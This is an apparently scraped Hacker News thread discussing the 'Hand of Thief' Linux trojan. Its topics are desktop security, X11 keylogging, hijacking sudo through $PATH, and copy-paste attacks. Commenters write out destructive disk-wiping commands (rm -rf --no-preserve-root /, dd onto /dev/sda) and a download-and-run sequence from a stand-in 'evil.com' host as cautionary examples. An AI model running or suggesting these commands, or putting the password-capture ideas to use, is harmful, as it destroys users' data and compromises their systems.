Hacker News new | comments | show | ask | jobs| submit login
Linux Trojan “Hand of Thief” (avast.com)
76 points by 16s 1511 days ago | hide | past | web | 61 comments | favorite

> The Linux operating system is designed to have high level of security. However, this year a few attempts to attack Web servers by backdoors redirecting traffic or malicious apache modules have been discovered. The aim of this Trojan is to compromise user desktop systems. With features designed to abuse sensitive browser information, it could advance Linux users a step forward in this specific environment. The same threatening environment in which Windows users have existed for years. The statement that the Linux platform is absolutely secure now seems even more illusive.

Once you have the ability to run code on a system (as someone dropping this trojan would), all bets are off. This has nothing to do with "security" and it's quite misleading to say that it does. I'm no fan of Linux from a security perspective, but this story has no impact on the security posture of a Linux system, period.

Bets aren't off. Look at what Chrome, NaCL does, or how iOS and Symbian (yeah) and Android (eh Linux there actually) isolate.

Privilege escalation bugs are getting rarer.

If Ubuntu put the browser in a LXC etc things could move forward.

Bets not off! We should carry on trying!

Even in these cases, they're still allowing full access to that sandbox. This trojan doesn't escalate -- it doesn't need to. It just has to drop other payloads, which could be done on any system without hard code signing requirements.

Please correct me if I am wrong, but I think all the OS's that you referred run apps on sandboxes with strong limitations on the file system access. If that is the case then the compromises might not worth it on desktops

Why should code downloaded in the browser context read your CD drive? Seperation is good. Even cut paste can go via a trusted intemediary.

If I'm not mistaken, Ubuntu ships Firefox with anAppArmor profile that restricts it by default.

(Question for those in the know: what exactly does it prevent firefox from doing?)

Yes it does. But I want defense in depth: I want it contained, I want OpenBSD-style randomisations and so on.

Why couldn't the browser run itself in a VM instead of relying on the OS to do it? There's some file size overhead, sure, but it seems like a custom VM would be the best way to ensure maximum compatibility, and avoids the potential for a tangle of mutual workarounds.

Or we could say: security is a practice.

Usually the design of an O.S. has certain weight, but not half of the weight that the operators (and users) have.

A keylogger for linux takes less than 30 lines of C... a payload for a root shell takes less... but to certify that they will work on every Linux out there... is more hard... it's hard even with constructive software, it shouldn't be less hard withmalware.

The concept of malware may vary too much from one person to other, from one company to other, from one project to other.

It's not always a trojan, and software is a changing scenario. And it's not isolated, it's an ecosystem.

First viruses did travel on floppy disks. Nowadays they use websockets, sql, or render themselves as a (web) image or font.

Even the low latency DNS, maybe considered malware if we go philosophical.

Internet, as the real world, is something wonderful. And as the real world, may turn hostile. So even if wonderful, each one should take care on what to trust, and what not, and how.

Update: remove all "quoting" as I was told once that I use them too much.

>I'm no fan of Linux from a security perspectiveWhat OS's are you a fan of from a security perspective?

IBM RS/6000

No offense, but I'd rather hear from a noted security expert than an adman.

So first question came to mind: how do it inject code to processes? You need something for that: working exploit, CAP_SYS_PTRACE capability, you name it. Googling reveals just bunch of stupid articles that don't mention what you need to “install” that trojan.

According to http://www.techrepublic.com/blog/linux-and-open-source/hand-...

  The good news is that Hand of Thief must have the root
  (or sudo) password in order to install.
So how would it be? “Yow, just add this line to sources.list and run apt-get cool-hd-wallpapers-2013”?

Hello there. I'm the unix virus. Please sudo run me.

Think about how much software is blindly cloned from Github and executed by the unaware without so much as a look at the source. That's only one vector.

Yeah but none of the software I blindly download from any source gets run as root.

Can't guarantee that, can you? Say you run it as non-root and it sits there waiting for 'sudo * \n' and captures whatever you type after. Your non-root software could then execute itself with sudo using the password that it's captured.

It's even easier. You can alias sudo and grab the password that way.Don't you need root to read keystrokes not being sent to you?

Not under X11. See `xev -id $WINDOW_ID`for a demonstration.

There's the XACE (X11 Access Control Extension) that tries to make it harder to snoop, but I don't believe that it's enabled by default in most distributions.

I tried this, I started gedit then xwininfo to get the window id then xev -id and then started typing in gedit. I saw event information but didn't see what characters were being typed so what's the point you're trying to make?

I do see what characters are getting typed when I do the same thing. For example:

    KeyPress event, serial 28, synthetic NO, window 0x2000003,
        root 0x2b7, subw 0x0, time 322414662, (225,283), root:(1057,269),
        state 0x0, keycode 26(keysym 0x65, e), same_screen YES,
        XLookupString gives 1 bytes: (65) "e"
        XmbLookupString gives 1 bytes: (65) "e"
        XFilterEvent returns: False

I barely see half that information so something's different about how we're doing it. I'm Ubuntu 12.04 btw.

Do you see all the information when you let xev make its own window rather than look at a different window?

I think what he is trying to say is that it could just emulate the terminal and read whatever is coming to it after it's executed. "Listening" for when the user types in sudo...

The easier way would likely be to add a "sudo" script somewhere in $PATH, ideally before /usr/bin –incidentally, this gets much easier on a development machine where people have a ruby path, a perl path, a python path and their own $HOME/bin.

That's good, but http://xkcd.com/1200/ is very relevant here.

Writing a keylogger for X Window is just a few lines of shell script, assuming `xinput` is installed. X Window system just was not designed for running complex graphical environments, I suppose, and security inside it is quite weak (it does not protect root sessions in xterm in any way although xterm was one of the first X programs). Yes, `gksu`/`kdesudo` alleviate the situation (protecting passwords from being grabbed), but that's not a solution.

E.g. it's easy to write a script that detects user's inactivity for some period and if a root session is here in the same X session, it just sends there any text. That's why I avoid sudo'ing in graphical environment and I always set 'targetpw' in /etc/sudoers to enable separate root account on Debian/Ubuntu.

I would argue that you're one of few in that case.... Many people downloadsoftware(oftentimes from shiesty sources) and run as root... There are countless walk-throughs and tutorials that have 'sudo' in them.

> The statement that the Linux platform is absolutely secure now seems even more illusive.

What now? When did anyone ever claim Linux was "absolutely secure"? Second, how is an attack that depends on the user installing malicious software evidence of a security lapse in the system itself? If you're just going to run anything I tell you to run, I'll give you:

sudo rm -rf /

That is actually a completly safe command to run (although I would not recomend it). rm by defualt does not allow you to delete '/'. To override this, you want

sudo rm -rf --no-preserve-root /

Regardless, everyone knows that sudo rm -rf / is a bad idea, try using something more cryptic. I reccomend:sudo dd if=/dev/zero of=/dev/sda

For those of you thinking "but surely sda is mounted, Linux won't let you write to it", wrong. I just tested this on my machine (using a specially made loop-back device). You can write directly to a mounted device. For those curius, after zero'ing out the device, attempting to 'ls' in the mounted directory resulted in either ls printing "killed" and terminating instantly, or hanging and refusing to respond to ^C.

I am not an expert on linux, but I always assumed there are less malware first because much more people are using windows - target audience much bigger, second - malware creators wouldn't want to create viruses for the systems they use.Linux certainly is not immune to malware in general or even `viruses` in particular, but a virus isn't a very effective means of attacking "Linux." While it's usually used as a catch all for any malware, a virus is a specific type of malware. It needs to be able to infect a machine then spread. Most Linux installations use a security model that requires an administrative (root or sudo) password to install software. The biggest challenge that virus authors have whentargeting "Linux" is the wide range of distros.

When you target Windoze you can write a .exe file and convince your victim to execute it. What type of file would you use to attack Linux users? If they use RPM, you could use a .RPM file. If they use Debian or Ubuntu, you could provide a .deb file. If you are attempting to send your virus to every email address in the victim's address book, you would need to know the package manager of the victim before deciding which attack package to distribute. Certainly, you could distribute the package as a script which determines the OS then grabs the appropriate package from a repository and installs it, but then you're exposing a lot of information about your attack to every victim. Eventually someone catches it.

So no Linux is not immune to viruses, but it's more the platform than the audience that prevents these attacks. When you want to attack Linux users, use a rootkit instead. Actually... please don't attack Linux users, there are enough Windoze users out there, and you shouldn't attack them either... because... ethics

> wouldn't want to create viruses for the systems they use

I can guarantee you that most malware authors run Windows. It's terribly difficult to cross compile software on a *NIX for a Windows environment, and even more difficult to test and debug said software if you don't have a runtime for the given executable.

Linux hasn't ever been a major malware target (in the Windows sense of malware) because the consumer install base for a desktop system has always been extremely low. That said, look at how many times a Linux web server gets compromised through the application it'srunning (RCE, SQLi, etc), and the possible value of the data lost through those methods and you'll see that there isn't a need for researching exploits and developing malware for those targets, as we the web application developers, design those exploits for them.

I read the article twice, but failed to find the attack vector. How would you get infected by this, short of running it yourselfmanually?

Afaict this does not include any sort of remote exploit of linux, so it would probably rely on social engineering or something similiar. Have a look at the earlier discussion at HN: https://news.ycombinator.com/item?id=6185932

That should be obvious from reading the linked article, and I think someone asking for the attack vector would know this as well. It is a valid question, we know that people are tricked into installing the trojan but every article about this so far has been light on details as to how they are tricked. A browser exploit, malicious software repository, no confirmation on anything so far.The articles call it a "Trojan", so I expect they trick people into installing it.

It tricks users who blindly cut+paste console commands.

Yet another reason why command line literacy is important, even with "polished" distros. (Particularly if those polished distros have a habit of removing GUI configuration in the name of "simplification", pushing users to forums to find fixes that they can paste into their terminal...)

Even command line literate people can fall victim to copy and paste exploits. If you are copying from a non-trusted website, you might be tempted to read the code that you are copying, decide that it is safe, and copy it. The problem is that with HTML, itis possible that the website could make you copy something in addition to what you actually see, and therefore still be able to execute arbitrarycode even though you 'audited' it before hand.

I suspect that most people who can find the console will notice what's going on with a session like this:

    $ wget evil.com/trojan
    $ chmod +x trojan
    $ ./trojan
Maybe it's more likely to hit those who double-click unwisely?

Remember that a year or two ago all of the public instructions for installing nodejs were of the form.

    sudo wget http://example.com/node/install.sh | sh
so it's not like it's only newbieswho blindly run scripts as root.

Similar to how Meteor is installed: curl https://install.meteor.com | /bin/sh

After downloading it asks for your password.


Hahaha if it's in the repo then we DO have problems...

Although presumably someone who could write there could just corrupt a package everyone already has?

Same way as the larger part of other operating systems get infected.

You trick people to install/run something. Mail with attachments, perhaps there's a vulnerability in a pdf reader, openoffice, some media player to exploit perhaps the user will actually run that executable you sent. Download links with added malware. Drop a custom usb key and exploit the USB stack.

